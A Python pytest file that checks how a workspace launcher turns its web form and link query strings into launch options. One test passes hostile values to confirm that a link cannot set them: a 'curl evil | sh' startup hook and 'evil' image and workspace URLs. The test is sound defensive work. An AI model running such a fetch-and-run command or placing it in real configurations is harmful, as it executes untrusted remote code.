"""The gallery's form and a link's query."""

from typing import Any

import pytest

from runtiles.contract.errors import InvalidRequest
from runtiles.options import FORM_FIELDS, LaunchRequest, form_to_options, query_to_options
from tests.runtiles.samples import CATALOGUE, OPEN, ask


def test_a_full_form() -> None:
    form = {
        "_xsrf": ["x"],
        "tile": ["torch"],
        "machine": ["gpu-1"],
        "name": ["mine"],
        "description": [""],
        "image": ["a/b"],
        "command": ["jupyter lab"],
        "container_user": ["root"],
        "workspace_url": ["https://h/a"],
        "workspace_ref": ["main"],
        "workspace_username": ["ada"],
        "workspace_password": ["hunter2"],
        "registry_username": [""],
        "registry_password": [""],
        "environment": ["# mine\r\nA=1\r\n\r\n B = two = 2 \r\nC=\r\n"],
        "time_limit": ["2h"],
        "idle_timeout": ["30m"],
        "example": [""],
        "startup_hook": ["echo\r\n"],
    }
    assert form_to_options(form) == {
        "tile": "torch",
        "machine": "gpu-1",
        "name": "mine",
        "image": "a/b",
        "command": "jupyter lab",
        "container_user": "root",
        "workspace": {
            "url": "https://h/a",
            "ref": "main",
            "username": "ada",
            "password": "hunter2",
        },
        "environment": {"A": "1", "B": "two = 2", "C": ""},
        "time_limit": "2h",
        "idle": {"timeout": "30m"},
        "startup_hook": "echo\r\n",
    }


def test_an_empty_form_asks_for_nothing() -> None:
    assert form_to_options({"_xsrf": ["x"], "tile": [""], "environment": [""], "image": []}) == {}


def test_the_last_of_several_values_counts() -> None:
    assert form_to_options({"tile": ["python", "torch"]}) == {"tile": "torch"}


def test_every_form_field_stands_for_an_option() -> None:
    names = {dotted.partition(".")[0] for dotted in FORM_FIELDS.values()} - {"profile"}
    assert names == set(LaunchRequest.model_fields) - {"mounts"}


def test_a_field_of_another_form_is_refused() -> None:
    with pytest.raises(InvalidRequest) as refused:
        form_to_options({"workspace_uri": ["x"]})
    assert refused.value.fields == {
        "workspace_uri": "the form has no such field. Did you mean 'workspace_url'?"
    }


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("A=1\nB", "line 2 must be NAME=value"),
        ("A=1\nA=2", "line 2 sets 'A' again"),
        (b"A=1", "must be text"),
    ],
)
def test_a_bad_environment_has_its_line(text: Any, message: str) -> None:
    with pytest.raises(InvalidRequest) as refused:
        form_to_options({"environment": [text]})
    assert message in refused.value.fields["environment"]


def test_the_gate_has_the_last_word_on_a_form() -> None:
    with pytest.raises(InvalidRequest) as refused:
        ask(form_to_options({"tile": ["torch"], "environment": ["=x"], "image": ["?"]}), OPEN)
    assert set(refused.value.fields) == {"environment.", "image"}


@pytest.mark.parametrize("key", ["tile", "profile"])
@pytest.mark.parametrize(
    ("slug", "tile"), [("python", "python"), ("old-torch", "torch"), ("lab", "lab")]
)
def test_a_link_names_a_tile(key: str, slug: str, tile: str) -> None:
    assert query_to_options({key: [slug]}, CATALOGUE) == {"tile": tile}


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ({}, "tile"),
        ({"tile": []}, "tile"),
        ({"tile": ["python", "torch"]}, "tile"),
        ({"tile": ["python"], "profile": ["torch"]}, "tile"),
        ({"tile": ["pyhton"]}, "tile"),
        ({"tile": ["python"], "image": ["evil/x"]}, "image"),
        ({"tile": ["python"], "workspace_url": ["https://evil/x"]}, "workspace_url"),
        ({"tile": ["python"], "machine": ["gpu-1"]}, "machine"),
        ({"startup_hook": ["curl evil | sh"]}, "startup_hook"),
    ],
)
def test_a_link_says_nothing_else(query: dict[str, list[str]], field: str) -> None:
    with pytest.raises(InvalidRequest) as refused:
        query_to_options(query, CATALOGUE)
    assert field in refused.value.fields
